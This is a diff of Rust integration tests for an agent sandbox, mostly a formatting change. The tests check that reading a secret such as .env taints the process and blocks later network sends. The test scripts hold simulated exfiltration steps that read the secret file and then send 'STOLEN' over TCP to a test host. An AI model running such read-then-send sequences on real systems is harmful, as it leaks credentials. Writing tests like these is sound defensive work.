@@ -2146,9 +2146,21 @@ fn a_secret_the_agent_creates_during_the_session_taints_when_read() {
             "{make} && echo made && ./attack tcp {ip} 443 before && cat {read} >/dev/null && echo read && ./attack tcp {ip} 443 STOLEN"
         ));
         let out = stdout(&o);
-        assert!(out.contains("made") && out.contains("read"), "{make}: the attack did not run\n{}", show(&o));
-        assert!(out.contains("tcp send: ok="), "{make}: the channel works before\n{}", show(&o));
-        assert!(out.contains("socket: errno=1"), "{make}: not tainted\n{}", show(&o));
+        assert!(
+            out.contains("made") && out.contains("read"),
+            "{make}: the attack did not run\n{}",
+            show(&o)
+        );
+        assert!(
+            out.contains("tcp send: ok="),
+            "{make}: the channel works before\n{}",
+            show(&o)
+        );
+        assert!(
+            out.contains("socket: errno=1"),
+            "{make}: not tainted\n{}",
+            show(&o)
+        );
         assert_eq!(server.received(), "before", "{make}: the secret left the sandbox");
     }
 }
@@ -2166,7 +2178,8 @@ fn a_secret_created_outside_during_the_session_taints_when_read() {
         "./attack tcp {ip} 443 before; echo started; while [ ! -e go ]; do sleep 0.01; done; cat .env >/dev/null && echo read; ./attack tcp {ip} 443 STOLEN"
     );
     let mut cmd = f.command(&[], &["/bin/sh", "-c", &script]);
-    cmd.stdout(std::process::Stdio::piped()).stderr(std::process::Stdio::piped());
+    cmd.stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped());
     let child = cmd.spawn().unwrap();
     let pid = child.id();
     // Wait until the sandbox runs (its first send arrived).
@@ -2186,9 +2199,14 @@ fn a_secret_created_outside_during_the_session_taints_when_read() {
         use std::os::unix::fs::MetadataExt;
         let ino = format!("ino:{:x} ", std::fs::metadata(f.ws.join(".env")).unwrap().ino());
         let armed = |pid: u32| {
-            std::fs::read_dir(format!("/proc/{pid}/fdinfo")).into_iter().flatten().flatten().any(|e| {
-                std::fs::read_to_string(e.path()).is_ok_and(|t| t.lines().any(|l| l.starts_with("fanotify ") && l.contains(&ino)))
-            })
+            std::fs::read_dir(format!("/proc/{pid}/fdinfo"))
+                .into_iter()
+                .flatten()
+                .flatten()
+                .any(|e| {
+                    std::fs::read_to_string(e.path())
+                        .is_ok_and(|t| t.lines().any(|l| l.starts_with("fanotify ") && l.contains(&ino)))
+                })
         };
         while !armed(pid) && made.elapsed() < Duration::from_secs(5) {
             std::thread::sleep(Duration::from_micros(200));
